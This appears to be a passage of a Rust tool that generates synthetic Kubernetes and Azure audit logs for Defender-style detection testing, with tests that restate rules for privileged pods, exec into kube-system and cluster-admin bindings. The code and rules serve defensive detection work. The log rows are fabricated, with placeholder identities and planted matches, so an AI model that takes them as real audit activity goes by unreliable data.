        key(out, keys.user_agent);
        push_json_string(out, event.user_agent);
        out.push(',');
        key(out, keys.object_ref);
        out.push_str("{\"resource\":");
        push_json_string(out, resource.name);
        if !event.namespace.is_empty() {
            out.push_str(",\"namespace\":");
            push_json_string(out, event.namespace);
        }
        if !event.name.is_empty() {
            out.push_str(",\"name\":");
            push_json_string(out, &event.name);
        }
        if !event.subresource.is_empty() {
            out.push_str(",\"subresource\":");
            push_json_string(out, event.subresource);
        }
        if !resource.group.is_empty() {
            out.push_str(",\"apiGroup\":");
            push_json_string(out, resource.group);
        }
        out.push_str(",\"apiVersion\":");
        push_json_string(out, resource.version);
        out.push_str("},");
        key(out, keys.response_status);
        out.push_str("{\"metadata\":{}");
        if !event.failure_reason.is_empty() {
            out.push_str(",\"status\":\"Failure\",\"message\":");
            push_json_string(out, &event.failure_message);
            out.push_str(",\"reason\":");
            push_json_string(out, event.failure_reason);
            out.push_str(",\"details\":{");
            if !event.name.is_empty() {
                out.push_str("\"name\":");
                push_json_string(out, &event.name);
                out.push(',');
            }
            if !resource.group.is_empty() {
                out.push_str("\"group\":");
                push_json_string(out, resource.group);
                out.push(',');
            }
            out.push_str("\"kind\":");
            push_json_string(out, resource.name);
            out.push('}');
        }
        out.push_str(",\"code\":");
        push_u64(out, u64::from(event.code));
        out.push('}');
        if !event.request_object.is_empty() {
            out.push(',');
            key(out, keys.request_object);
            out.push_str(&event.request_object);
        }
        out.push(',');
        key(out, keys.request_received);
        out.push('"');
        push_datetime(out, drawn.received, 6);
        out.push_str("\",");
        key(out, keys.stage_timestamp);
        out.push('"');
        push_datetime(out, drawn.stage_end, 6);
        out.push_str("\",");
        key(out, keys.annotations);
        self.push_annotations(out);
        out.push('}');
    }

    /// `annotations` of the event: the authorizer's decision.
    fn push_annotations(&self, out: &mut String) {
        let event = &self.event;
        out.push_str("{\"authorization.k8s.io/decision\":\"");
        if event.denied {
            out.push_str("forbid\",\"authorization.k8s.io/reason\":\"\"");
        } else {
            out.push_str("allow\",\"authorization.k8s.io/reason\":");
            push_json_string(out, ACTORS[event.actor].authz_reason);
        }
        out.push_str(event.extra_annotation);
        out.push('}');
    }

    /// The event as its platform exports it.
    fn render_native(&mut self, out: &mut String, drawn: &Drawn) {
        let cluster = &CLUSTERS[self.event.cluster];
        let mut text = std::mem::take(&mut self.native);
        text.clear();
        match cluster.platform {
            Platform::OnPrem => {
                self.push_event(out, &CAMEL_KEYS, drawn);
            }
            Platform::Aks => {
                self.push_event(&mut text, &CAMEL_KEYS, drawn);
                out.push_str("{\"category\":");
                let read = matches!(self.event.verb, "get" | "list" | "watch");
                out.push_str(if read {
                    "\"kube-audit\""
                } else {
                    "\"kube-audit-admin\""
                });
                out.push_str(",\"operationName\":\"Microsoft.ContainerService/managedClusters/diagnosticLogs/Read\",\"properties\":{\"log\":");
                push_json_string(out, &text);
                out.push_str(",\"pod\":\"kube-apiserver-7c9f6d8b5-");
                out.push_str(&cluster.name[cluster.name.len().saturating_sub(3)..]);
                out.push_str("qz\",\"stream\":\"stdout\"},\"resourceId\":");
                push_json_string(out, &cluster.azure_resource_id.to_ascii_uppercase());
                out.push_str(",\"time\":\"");
                push_datetime(out, drawn.stage_end + 350, 6);
                out.push_str("\"}");
            }
            Platform::Eks => {
                self.push_event(&mut text, &CAMEL_KEYS, drawn);
                out.push_str("{\"messageType\":\"DATA_MESSAGE\",\"owner\":\"111122223333\",\"logGroup\":\"/aws/eks/");
                out.push_str(cluster.name);
                out.push_str("/cluster\",\"logStream\":\"kube-apiserver-audit-7f3a9c2e5b1d4f6a8c0e2b4d6f8a0c2e\",\"subscriptionFilters\":[\"eks-audit-to-firehose\"],\"logEvents\":[{\"id\":\"");
                push_u64(out, drawn.stage_end.unsigned_abs());
                out.push_str("000\",\"timestamp\":");
                push_u64(out, (drawn.stage_end / 1_000).unsigned_abs());
                out.push_str(",\"message\":");
                push_json_string(out, &text);
                out.push_str("}]}");
            }
            Platform::Gke => self.push_gke_entry(out, drawn),
        }
        out.push('\n');
        self.native = text;
    }

    /// A Cloud Logging entry of a GKE audit event.
    fn push_gke_entry(&self, out: &mut String, drawn: &Drawn) {
        let event = &self.event;
        let cluster = &CLUSTERS[event.cluster];
        let resource = &RESOURCES[event.resource];
        let mut method = String::from("io.k8s.");
        if resource.group.is_empty() {
            method.push_str("core");
        } else {
            let group = resource.group.trim_end_matches(".k8s.io");
            for (i, part) in group.rsplit('.').enumerate() {
                if i > 0 {
                    method.push('.');
                }
                method.push_str(part);
            }
        }
        method.push('.');
        method.push_str(resource.version);
        method.push('.');
        method.push_str(resource.name);
        if !event.subresource.is_empty() {
            method.push('.');
            method.push_str(event.subresource);
        }
        method.push('.');
        method.push_str(event.verb);
        let mut name = String::from(if resource.group.is_empty() {
            "core"
        } else {
            resource.group
        });
        name.push('/');
        name.push_str(resource.version);
        if !event.namespace.is_empty() {
            name.push_str("/namespaces/");
            name.push_str(event.namespace);
        }
        name.push('/');
        name.push_str(resource.name);
        for part in [event.name.as_str(), event.subresource] {
            if !part.is_empty() {
                name.push('/');
                name.push_str(part);
            }
        }
        let grpc = match event.code {
            403 => 7,
            404 => 5,
            409 if event.verb == "create" => 6,
            409 => 10,
            _ => 0,
        };
        let read = matches!(event.verb, "get" | "list" | "watch");
        out.push_str("{\"insertId\":");
        push_json_string(out, &drawn.audit_id);
        out.push_str(",\"labels\":");
        self.push_annotations(out);
        out.push_str(",\"logName\":\"projects/contoso-prod/logs/cloudaudit.googleapis.com%2F");
        out.push_str(if read { "data_access" } else { "activity" });
        out.push_str("\",\"operation\":{\"first\":true,\"id\":");
        push_json_string(out, &drawn.audit_id);
        out.push_str(",\"last\":true,\"producer\":\"k8s.io\"},\"protoPayload\":{\"@type\":\"type.googleapis.com/google.cloud.audit.AuditLog\",\"authenticationInfo\":{\"principalEmail\":\"");
        push_username(out, &ACTORS[event.actor], event.node);
        out.push_str("\"},\"authorizationInfo\":[{\"granted\":");
        out.push_str(if event.denied { "false" } else { "true" });
        out.push_str(",\"permission\":");
        push_json_string(out, &method);
        out.push_str(",\"resource\":");
        push_json_string(out, &name);
        out.push_str("}],\"methodName\":");
        push_json_string(out, &method);
        if let Some(body) = event.request_object.strip_prefix('{') {
            out.push_str(",\"request\":{\"@type\":\"");
            out.push_str(if resource.group.is_empty() {
                "core"
            } else {
                resource.group
            });
            out.push('/');
            out.push_str(resource.version);
            out.push_str(".Object\",");
            out.push_str(body);
        }
        out.push_str(",\"requestMetadata\":{\"callerIp\":");
        push_json_string(out, &drawn.ip);
        out.push_str(",\"callerSuppliedUserAgent\":");
        push_json_string(out, event.user_agent);
        out.push_str("},\"resourceName\":");
        push_json_string(out, &name);
        out.push_str(",\"serviceName\":\"k8s.io\",\"status\":{\"code\":");
        push_u64(out, grpc);
        if grpc != 0 {
            out.push_str(",\"message\":");
            push_json_string(out, &event.failure_message);
        }
        out.push_str("}},\"receiveTimestamp\":\"");
        push_datetime(out, drawn.stage_end + 412_000, 6);
        out.push_str("\",\"resource\":{\"labels\":{\"cluster_name\":");
        push_json_string(out, cluster.name);
        out.push_str(",\"location\":\"us-central1\",\"project_id\":\"contoso-prod\"},\"type\":\"k8s_cluster\"},\"timestamp\":\"");
        push_datetime(out, drawn.stage_end, 6);
        out.push_str("\"}");
    }

    /// An Activity Log record (diagnostic-settings shape), without its
    /// closing brace; `native` writes names in capitals as Azure exports do.
    fn push_arm_record(&self, out: &mut String, op: ArmOperation, drawn: &Drawn, native: bool) {
        let (operation, resource_id, _) = ARM_OPERATIONS[op.operation];
        let caller = ARM_CALLERS[op.caller].0;
        let capitals = |s: &str| {
            if native {
                s.to_ascii_uppercase()
            } else {
                s.to_string()
            }
        };
        out.push_str("{\"time\":\"");
        push_datetime(out, self.event.time_us, 6);
        out.push_str("\",\"resourceId\":");
        push_json_string(out, &capitals(resource_id));
        out.push_str(",\"operationName\":");
        push_json_string(out, &capitals(operation));
        out.push_str(",\"category\":\"Administrative\",\"resultType\":");
        push_json_string(out, op.result.0);
        out.push_str(",\"resultSignature\":");
        push_json_string(out, op.result.1);
        out.push_str(",\"durationMs\":\"");
        push_u64(out, if op.result.0 == "Start" { 0 } else { 1_250 });
        out.push_str("\",\"callerIpAddress\":");
        push_json_string(out, &drawn.ip);
        out.push_str(",\"correlationId\":");
        push_json_string(out, &drawn.audit_id);
        out.push_str(",\"identity\":{\"authorization\":{\"scope\":");
        push_json_string(out, resource_id);
        out.push_str(",\"action\":");
        push_json_string(out, operation);
        out.push_str(
            "},\"claims\":{\"http://schemas.xmlsoap.org/ws/2005/05/identity/claims/name\":",
        );
        push_json_string(out, caller);
        out.push_str("}},\"level\":");
        out.push_str(if op.result.0 == "Failure" {
            "\"Error\""
        } else {
            "\"Information\""
        });
        out.push_str(",\"location\":\"global\",\"properties\":{\"eventCategory\":\"Administrative\",\"entity\":");
        push_json_string(out, resource_id);
        out.push_str(",\"message\":");
        push_json_string(out, operation);
        out.push('}');
    }

    /// A `CloudAuditEvents` row of a Resource Manager operation.
    fn render_arm_row(&self, out: &mut String, op: ArmOperation, drawn: &Drawn) {
        let (operation, resource_id, _) = ARM_OPERATIONS[op.operation];
        out.push_str("{\"Timestamp\":\"");
        push_datetime(out, self.event.time_us, 3);
        out.push_str("\",\"ReportId\":\"");
        out.push_str(&drawn.report_id);
        out.push_str("\",\"DataSource\":\"Azure Resource Manager\",\"ActionType\":\"");
        out.push_str(match operation.rsplit('/').next() {
            Some("write") => "Update",
            Some("delete") => "Delete",
            Some("action") => "Other",
            _ => "Unknown",
        });
        out.push_str("\",\"OperationName\":");
        push_json_string(out, operation);
        out.push_str(",\"ResourceId\":");
        push_json_string(out, resource_id);
        out.push_str(",\"AzureResourceId\":");
        push_json_string(out, resource_id);
        out.push_str(",\"IPAddress\":");
        push_json_string(out, &drawn.ip);
        push_geolocation(out, self.event.client);
        out.push_str(",\"UserAgent\":\"\",\"RawEventData\":");
        self.push_arm_record(out, op, drawn, false);
        out.push_str(",\"status\":");
        push_json_string(out, op.result.0);
        out.push_str(",\"subStatus\":");
        push_json_string(out, op.result.1);
        out.push_str("},\"AdditionalFields\":{\"Category\":\"Administrative\",\"Caller\":");
        push_json_string(out, ARM_CALLERS[op.caller].0);
        out.push_str("}}\n");
    }
}

/// Defender's geolocation of the client: known for people, empty for
/// addresses inside a cluster.
fn push_geolocation(out: &mut String, client: Option<&Client>) {
    match client {
        Some(client) => {
            out.push_str(",\"IsAnonymousProxy\":");
            out.push_str(client.anonymous_proxy);
            out.push_str(",\"CountryCode\":");
            push_json_string(out, client.country);
            out.push_str(",\"City\":");
            push_json_string(out, client.city);
            out.push_str(",\"Isp\":");
            push_json_string(out, client.isp);
        }
        None => out
            .push_str(",\"IsAnonymousProxy\":null,\"CountryCode\":\"\",\"City\":\"\",\"Isp\":\"\""),
    }
}

/// The random parts of a rendered event.
#[derive(Default)]
struct Drawn {
    ip: String,
    report_id: String,
    audit_id: String,
    /// `requestReceivedTimestamp`, microseconds.
    received: i64,
    /// `stageTimestamp`, microseconds.
    stage_end: i64,
}

/// Top-level key names of an audit event: PascalCase in `RawEventData`
/// (as Defender writes it), camelCase as the API server does.
struct EventKeys {
    kind: &'static str,
    api_version: &'static str,
    level: &'static str,
    audit_id: &'static str,
    stage: &'static str,
    request_uri: &'static str,
    verb: &'static str,
    user: &'static str,
    source_ips: &'static str,
    user_agent: &'static str,
    object_ref: &'static str,
    response_status: &'static str,
    request_object: &'static str,
    request_received: &'static str,
    stage_timestamp: &'static str,
    annotations: &'static str,
}

const PASCAL_KEYS: EventKeys = EventKeys {
    kind: "Kind",
    api_version: "ApiVersion",
    level: "Level",
    audit_id: "AuditId",
    stage: "Stage",
    request_uri: "RequestURI",
    verb: "Verb",
    user: "User",
    source_ips: "SourceIPs",
    user_agent: "UserAgent",
    object_ref: "ObjectRef",
    response_status: "ResponseStatus",
    request_object: "RequestObject",
    request_received: "RequestReceivedTimestamp",
    stage_timestamp: "StageTimestamp",
    annotations: "Annotations",
};

const CAMEL_KEYS: EventKeys = EventKeys {
    kind: "kind",
    api_version: "apiVersion",
    level: "level",
    audit_id: "auditID",
    stage: "stage",
    request_uri: "requestURI",
    verb: "verb",
    user: "user",
    source_ips: "sourceIPs",
    user_agent: "userAgent",
    object_ref: "objectRef",
    response_status: "responseStatus",
    request_object: "requestObject",
    request_received: "requestReceivedTimestamp",
    stage_timestamp: "stageTimestamp",
    annotations: "annotations",
};

/// Index of a resource in `RESOURCES`, by name.
fn resource_index(name: &str) -> usize {
    RESOURCES
        .iter()
        .position(|r| r.name == name)
        .unwrap_or_else(|| unreachable!("resource {name} is missing from RESOURCES"))
}

fn actor_index(username: &str) -> usize {
    ACTORS
        .iter()
        .position(|a| a.username == username)
        .unwrap_or_else(|| unreachable!("actor {username} is missing from ACTORS"))
}

fn actor_app(name: &str) -> usize {
    APPS.iter()
        .position(|a| a.name == name)
        .unwrap_or_else(|| unreachable!("app {name} is missing from APPS"))
}

fn starts_with_exempt_prefix(pod: &str) -> bool {
    EXEC_EXEMPT_PREFIXES.iter().any(|prefix| {
        pod.len() >= prefix.len()
            && pod.as_bytes()[..prefix.len()].eq_ignore_ascii_case(prefix.as_bytes())
    })
}

/// The name of an app's main container: mostly the app's own name, but
/// some charts call it by its role.
fn short_name(app: &str) -> &str {
    match app {
        "ingress-nginx-controller" => "controller",
        "gatekeeper-controller-manager" => "manager",
        "argocd-repo-server" => "repo-server",
        _ => app,
    }
}

fn push_username(out: &mut String, actor: &Actor, node: &str) {
    out.push_str(actor.username);
    if actor.role == Role::Node {
        out.push_str(node);
    }
}

fn push_container(
    out: &mut String,
    name: &str,
    image: &str,
    port: u16,
    volume: &str,
    security_context: &str,
) {
    out.push_str("{\"name\":");
    push_json_string(out, name);
    out.push_str(",\"image\":");
    push_json_string(out, image);
    if port != 0 {
        out.push_str(",\"ports\":[{\"containerPort\":");
        push_u64(out, u64::from(port));
        out.push_str(",\"protocol\":\"TCP\"}]");
    }
    out.push_str(",\"resources\":{\"limits\":{\"memory\":\"512Mi\"},\"requests\":{\"cpu\":\"100m\",\"memory\":\"128Mi\"}}");
    if !volume.is_empty() {
        out.push_str(",\"volumeMounts\":[{\"name\":\"kube-api-access-");
        out.push_str(volume);
        out.push_str("\",\"readOnly\":true,\"mountPath\":\"/var/run/secrets/kubernetes.io/serviceaccount\"}]");
    }
    out.push_str(",\"terminationMessagePath\":\"/dev/termination-log\",\"terminationMessagePolicy\":\"File\",\"imagePullPolicy\":\"IfNotPresent\"");
    if !security_context.is_empty() {
        out.push_str(",\"securityContext\":");
        out.push_str(security_context);
    }
    out.push('}');
}

// ---------------------------------------------------------------------------
// Text helpers: faster than `write!` and exactly what JSON needs

/// Appends `s` as a JSON string literal.
fn push_json_string(out: &mut String, s: &str) {
    out.push('"');
    let mut start = 0;
    for (i, byte) in s.bytes().enumerate() {
        let escape = match byte {
            b'"' => "\\\"",
            b'\\' => "\\\\",
            b'\n' => "\\n",
            b'\r' => "\\r",
            b'\t' => "\\t",
            0..=0x1f => "",
            _ => continue,
        };
        out.push_str(&s[start..i]);
        if escape.is_empty() {
            out.push_str("\\u00");
            push_hex(out, u64::from(byte), 2);
        } else {
            out.push_str(escape);
        }
        start = i + 1;
    }
    out.push_str(&s[start..]);
    out.push('"');
}

/// Appends `s` percent-encoded as a query value: everything but the
/// unreserved characters of RFC 3986 is escaped (so never a `+`).
fn push_percent_encoded(out: &mut String, s: &str) {
    const HEX: &[u8; 16] = b"0123456789ABCDEF";
    for byte in s.bytes() {
        if byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'.' | b'_' | b'~') {
            out.push(char::from(byte));
        } else {
            out.push('%');
            out.push(char::from(HEX[usize::from(byte >> 4)]));
            out.push(char::from(HEX[usize::from(byte & 15)]));
        }
    }
}

fn push_u64(out: &mut String, mut n: u64) {
    let mut digits = [0u8; 20];
    let mut i = digits.len();
    loop {
        i -= 1;
        digits[i] = b'0' + (n % 10) as u8;
        n /= 10;
        if n == 0 {
            break;
        }
    }
    for &digit in &digits[i..] {
        out.push(char::from(digit));
    }
}

/// Appends the low `digits` hex digits of `n`, lowercase.
fn push_hex(out: &mut String, n: u64, digits: u32) {
    const HEX: &[u8; 16] = b"0123456789abcdef";
    for i in (0..digits).rev() {
        out.push(char::from(HEX[((n >> (4 * i)) & 15) as usize]));
    }
}

/// Appends a random version-4 UUID.
fn push_uuid(out: &mut String, rng: &mut SplitMix64) {
    let high = rng.next_u64();
    let low = rng.next_u64();
    push_hex(out, high >> 32, 8);
    out.push('-');
    push_hex(out, high >> 16, 4);
    out.push_str("-4");
    push_hex(out, high, 3);
    out.push('-');
    push_hex(out, 0x8 | ((low >> 62) & 3), 1);
    push_hex(out, low >> 48, 3);
    out.push('-');
    push_hex(out, low, 12);
}

fn push_random_name(out: &mut String, rng: &mut SplitMix64, len: usize) {
    let mut bits = rng.next_u64();
    for _ in 0..len {
        out.push(char::from(
            NAME_ALPHABET[(bits % NAME_ALPHABET.len() as u64) as usize],
        ));
        bits /= NAME_ALPHABET.len() as u64;
    }
}

fn push_two_digits(out: &mut String, n: u32) {
    out.push(char::from(b'0' + (n / 10) as u8));
    out.push(char::from(b'0' + (n % 10) as u8));
}

/// Appends microseconds since the Unix epoch as ISO 8601 UTC with
/// `fraction_digits` (3 or 6) digits and a `Z`.
fn push_datetime(out: &mut String, micros: i64, fraction_digits: u32) {
    let seconds = micros.div_euclid(MICROS_PER_SECOND);
    let fraction = micros.rem_euclid(MICROS_PER_SECOND) as u64;
    let days = seconds.div_euclid(86_400);
    let second_of_day = seconds.rem_euclid(86_400) as u32;
    let (year, month, day) = civil_from_days(days);
    push_u64(out, year as u64);
    out.push('-');
    push_two_digits(out, month);
    out.push('-');
    push_two_digits(out, day);
    out.push('T');
    push_two_digits(out, second_of_day / 3600);
    out.push(':');
    push_two_digits(out, second_of_day / 60 % 60);
    out.push(':');
    push_two_digits(out, second_of_day % 60);
    out.push('.');
    let fraction = fraction / 10u64.pow(6 - fraction_digits);
    let mut divisor = 10u64.pow(fraction_digits - 1);
    while divisor > 0 {
        out.push(char::from(b'0' + (fraction / divisor % 10) as u8));
        divisor /= 10;
    }
    out.push('Z');
}

/// Year, month, day of a day counted from 1970-01-01 (Howard Hinnant's
/// `civil_from_days`), to format dates without a calendar library per row.
fn civil_from_days(days: i64) -> (i64, u32, u32) {
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let day_of_era = z.rem_euclid(146_097);
    let year_of_era =
        (day_of_era - day_of_era / 1_460 + day_of_era / 36_524 - day_of_era / 146_096) / 365;
    let day_of_year = day_of_era - (365 * year_of_era + year_of_era / 4 - year_of_era / 100);
    let month_index = (5 * day_of_year + 2) / 153;
    let day = (day_of_year - (153 * month_index + 2) / 5 + 1) as u32;
    let month = if month_index < 10 {
        month_index + 3
    } else {
        month_index - 9
    } as u32;
    let year = year_of_era + era * 400 + i64::from(month <= 2);
    (year, month, day)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::Value;

    fn now() -> DateTime<Utc> {
        DateTime::parse_from_rfc3339("2024-05-28T12:00:00Z")
            .unwrap()
            .with_timezone(&Utc)
    }

    fn generate(bytes: u64, seed: u64, match_rate_per_million: u32) -> (Vec<u8>, SampleStats) {
        let options = SampleOptions {
            bytes,
            seed,
            now: now(),
            match_rate_per_million,
            ..SampleOptions::new(bytes, now())
        };
        let mut out = Vec::new();
        let stats = write_sample(&mut out, &options).unwrap();
        (out, stats)
    }

    fn generate_events(
        events: u64,
        source: Source,
        format: SampleFormat,
        match_rate_per_million: u32,
    ) -> (Vec<u8>, SampleStats) {
        let mut options = SampleOptions::new(0, now());
        options.events = Some(events);
        options.source = source;
        options.format = format;
        options.seed = 21;
        options.match_rate_per_million = match_rate_per_million;
        let mut out = Vec::new();
        let stats = write_sample(&mut out, &options).unwrap();
        (out, stats)
    }

    fn rows(out: &[u8]) -> Vec<Value> {
        std::str::from_utf8(out)
            .unwrap()
            .lines()
            .map(|line| serde_json::from_str(line).unwrap())
            .collect()
    }

    // -- the three reference rules, restated over parsed JSON ---------------
    //
    // Written from the `.kql` files and the semantics in
    // `tests/expected/README.md`, not from the generator, so that they check
    // it: `dynamic == "s"` and `startswith` use the value's string form (a
    // JSON `true` is "true", 201 is "201"), null compares false, string
    // `==` is case-sensitive, `startswith` is not, and `mv-expand` gives one
    // row per element, none for `[]`, one for null.

    fn at<'a>(value: &'a Value, path: &[&str]) -> &'a Value {
        path.iter()
            .fold(value, |v, key| v.get(key).unwrap_or(&Value::Null))
    }

    fn string_form(value: &Value) -> Option<String> {
        match value {
            Value::Null => None,
            Value::String(s) => Some(s.clone()),
            other => Some(other.to_string()),
        }
    }

    fn equals(value: &Value, text: &str) -> bool {
        string_form(value).is_some_and(|s| s == text)
    }

    fn starts_with(value: &Value, prefix: &str) -> bool {
        string_form(value).is_some_and(|s| s.to_lowercase().starts_with(&prefix.to_lowercase()))
    }

    fn within_a_day(row: &Value, now: DateTime<Utc>) -> bool {
        let time = DateTime::parse_from_rfc3339(row["Timestamp"].as_str().unwrap()).unwrap();
        time > now - chrono::Duration::days(1)
    }

    /// Elements `mv-expand` makes rows of.
    fn expand(value: &Value) -> Vec<Value> {
        match value {
            Value::Array(items) => items.clone(),
            other => vec![other.clone()],
        }
    }

    /// Output rows of `privileged-pod.kql` for one input row (`anywhere`:
    /// without its `DataSource` condition).
    fn privileged_pod(row: &Value, now: DateTime<Utc>, anywhere: bool) -> u64 {
        let raw = &row["RawEventData"];
        if !(within_a_day(row, now)
            && (anywhere || equals(&row["DataSource"], "Azure Kubernetes Service"))
            && equals(&row["OperationName"], "create")
            && equals(at(raw, &["ObjectRef", "resource"]), "pods")
            && at(raw, &["ObjectRef", "subresource"]).is_null()
            && starts_with(at(raw, &["ResponseStatus", "code"]), "20"))
        {
            return 0;
        }
        expand(at(raw, &["RequestObject", "spec", "containers"]))
            .iter()
            .filter(|container| equals(at(container, &["securityContext", "privileged"]), "true"))
            .count() as u64
    }

    /// Output rows of `exec-in-kube-system.kql` for one input row.
    fn exec_in_kube_system(row: &Value, now: DateTime<Utc>, anywhere: bool) -> u64 {
        let raw = &row["RawEventData"];
        let code_is_101 = at(raw, &["ResponseStatus", "code"]).as_f64() == Some(101.0);
        let pod = string_form(at(raw, &["ObjectRef", "name"]))
            .unwrap_or_default()
            .to_lowercase();
        let matches = within_a_day(row, now)
            && (anywhere || equals(&row["DataSource"], "Azure Kubernetes Service"))
            && equals(&row["OperationName"], "create")
            && equals(at(raw, &["ObjectRef", "resource"]), "pods")
            && code_is_101
            && equals(at(raw, &["ObjectRef", "namespace"]), "kube-system")
            && equals(at(raw, &["ObjectRef", "subresource"]), "exec")
            && !pod.starts_with("tunnelfront-")
            && !pod.starts_with("konnectivity-")
            && !pod.starts_with("aks-link");
        u64::from(matches)
    }

    /// Output rows of `cluster-admin-binding.kql` for one input row.
    fn cluster_admin_binding(row: &Value, now: DateTime<Utc>, _anywhere: bool) -> u64 {
        let raw = &row["RawEventData"];
        if !(within_a_day(row, now)
            && equals(&row["OperationName"], "create")
            && equals(at(raw, &["ObjectRef", "resource"]), "clusterrolebindings")
            && starts_with(at(raw, &["ResponseStatus", "code"]), "20")
            && equals(
                at(raw, &["RequestObject", "roleRef", "name"]),
                "cluster-admin",
            ))
        {
            return 0;
        }
        let taken_by = string_form(at(raw, &["User", "username"])).unwrap_or_default();
        if taken_by == "acsService" {
            return 0;
        }
        expand(at(raw, &["RequestObject", "subjects"])).len() as u64
    }

    /// A reference rule restated: output rows for one input row.
    type RuleCheck = fn(&Value, DateTime<Utc>, bool) -> u64;

    /// (rows, output rows) per rule over a whole sample.
    fn evaluate(rows: &[Value], now: DateTime<Utc>) -> [(u64, u64); 3] {
        evaluate_rules(rows, now, false)
    }

    /// The same, without the rules' `DataSource` condition.
    fn evaluate_anywhere(rows: &[Value], now: DateTime<Utc>) -> [(u64, u64); 3] {
        evaluate_rules(rows, now, true)
    }

    fn evaluate_rules(rows: &[Value], now: DateTime<Utc>, anywhere: bool) -> [(u64, u64); 3] {
        let rules: [RuleCheck; 3] = [privileged_pod, exec_in_kube_system, cluster_admin_binding];
        rules.map(|rule| {
            rows.iter().fold((0, 0), |(matched, output), row| {
                let n = rule(row, now, anywhere);
                (matched + u64::from(n > 0), output + n)
            })
        })
    }

    fn counted(stats: &SampleStats) -> [(u64, u64); 3] {
        stats.matches_per_rule.map(|m| (m.rows, m.output_rows))
    }

    fn counted_anywhere(stats: &SampleStats) -> [(u64, u64); 3] {
        stats
            .matches_per_rule
            .map(|m| (m.anywhere_rows, m.anywhere_output_rows))
    }

    // -- tests ---------------------------------------------------------------

    #[test]
    fn same_options_give_identical_bytes() {
        let (first, first_stats) = generate(500_000, 42, 20_000);
        let (second, second_stats) = generate(500_000, 42, 20_000);
        assert_eq!(first, second);
        assert_eq!(first_stats, second_stats);
    }

    #[test]
    fn different_seeds_give_different_bytes() {
        let (first, _) = generate(200_000, 1, DEFAULT_MATCH_RATE_PER_MILLION);
        let (second, _) = generate(200_000, 2, DEFAULT_MATCH_RATE_PER_MILLION);
        assert_ne!(first, second);
    }

    #[test]
    fn writes_whole_lines_until_the_byte_count_is_reached() {
        let (out, stats) = generate(100_000, 3, DEFAULT_MATCH_RATE_PER_MILLION);
        assert_eq!(stats.bytes, out.len() as u64);
        assert!(stats.bytes >= 100_000);
        assert!(out.ends_with(b"\n"));
        let lines = out.split(|&b| b == b'\n').filter(|l| !l.is_empty()).count();
        assert_eq!(stats.rows, lines as u64);
        // The last line is the one that crossed the target.
        let last_line_start = out[..out.len() - 1]
            .iter()
            .rposition(|&b| b == b'\n')
            .unwrap()
            + 1;
        assert!((last_line_start as u64) < 100_000);

        let (empty, stats) = generate(0, 3, DEFAULT_MATCH_RATE_PER_MILLION);
        assert!(empty.is_empty());
        assert_eq!(stats.rows, 0);
    }

    #[test]
    fn every_line_is_an_object_with_the_fifteen_columns() {
        const COLUMNS: [&str; 15] = [
            "Timestamp",
            "ReportId",
            "DataSource",
            "ActionType",
            "OperationName",
            "ResourceId",
            "AzureResourceId",
            "IPAddress",
            "IsAnonymousProxy",
            "CountryCode",
            "City",
            "Isp",
            "UserAgent",
            "RawEventData",
            "AdditionalFields",
        ];
        let (out, _) = generate(2_000_000, 5, 50_000);
        let rows = rows(&out);
        assert!(rows.len() > 1_000);
        // A mixed sample has a few Resource Manager operations.
        let resource_manager_rows = rows
            .iter()
            .filter(|r| r["DataSource"] == "Azure Resource Manager")
            .count();
        assert!(resource_manager_rows > 0 && resource_manager_rows < rows.len() / 10);
        for row in &rows {
            let object = row.as_object().unwrap();
            let keys: Vec<&str> = object.keys().map(String::as_str).collect();
            assert_eq!(keys.len(), 15, "{row}");
            for column in COLUMNS {
                assert!(object.contains_key(column), "{column} missing in {row}");
            }
            let raw = &row["RawEventData"];
            if row["DataSource"] == "Azure Resource Manager" {
                assert!(raw["operationName"].is_string(), "{row}");
                assert_eq!(raw["status"], raw["resultType"]);
                continue;
            }
            for key in [
                "Kind",
                "ApiVersion",
                "Level",
                "AuditId",
                "Stage",
                "RequestURI",
                "Verb",
                "User",
                "SourceIPs",
                "ObjectRef",
                "ResponseStatus",
                "RequestReceivedTimestamp",
                "StageTimestamp",
                "Annotations",
            ] {
                assert!(
                    raw.get(key).is_some(),
                    "RawEventData.{key} missing in {row}"
                );
            }
            assert_eq!(raw["Verb"], row["OperationName"]);
            let timestamp = row["Timestamp"].as_str().unwrap();
            // ISO 8601 with milliseconds: 2024-05-28T08:01:12.345Z
            assert_eq!(timestamp.len(), 24, "{timestamp}");
            assert!(
                DateTime::parse_from_rfc3339(timestamp).is_ok(),
                "{timestamp}"
            );
        }
    }

    #[test]
    fn timestamps_fall_in_the_day_before_now_and_a_few_before() {
        let (out, _) = generate(3_000_000, 6, DEFAULT_MATCH_RATE_PER_MILLION);
        let rows = rows(&out);
        let mut older = 0;
        for row in &rows {
            let time = DateTime::parse_from_rfc3339(row["Timestamp"].as_str().unwrap()).unwrap();
            assert!(time < now());
            assert!(time > now() - chrono::Duration::days(7));
            if time < now() - chrono::Duration::hours(25) {
                older += 1;
            }
        }
        // About 0.3 % of rows are older than a day, on purpose.
        assert!(
            older > 0 && older < rows.len() / 50,
            "{older} of {}",
            rows.len()
        );
        let first = DateTime::parse_from_rfc3339(rows[0]["Timestamp"].as_str().unwrap()).unwrap();
        let last =
            DateTime::parse_from_rfc3339(rows[rows.len() - 1]["Timestamp"].as_str().unwrap())
                .unwrap();
        assert!(first < now() - chrono::Duration::hours(23));
        assert!(last > now() - chrono::Duration::minutes(1));
    }

    #[test]
    fn average_line_is_between_1_2_and_2_kilobytes() {
        let (_, stats) = generate(5_000_000, 7, DEFAULT_MATCH_RATE_PER_MILLION);
        let average = stats.bytes / stats.rows;
        assert!(
            (1_200..=2_000).contains(&average),
            "average line {average} bytes"
        );
    }

    #[test]
    fn planted_matches_are_counted_exactly() {
        // A fifth of all rows planted: a few hundred per rule.
        let (out, stats) = generate(8_000_000, 8, 200_000);
        let rows = rows(&out);
        let found = evaluate(&rows, now());
        assert_eq!(found, counted(&stats));
        assert_eq!(evaluate_anywhere(&rows, now()), counted_anywhere(&stats));
        for (rows, output_rows) in found {
            assert!(rows > 100, "too few planted rows: {found:?}");
            assert!(output_rows >= rows);
        }
        // Both array forms occur: one pod with two privileged containers, one
        // binding with two subjects.
        assert!(
            found[0].1 > found[0].0 && found[2].1 > found[2].0,
            "{found:?}"
        );
        // A detector started up to an hour later finds the same.
        let later = now() + chrono::Duration::minutes(59);
        assert_eq!(evaluate(&rows, later), found);
    }

    #[test]
    fn background_rows_never_match() {
        for seed in 0..3 {
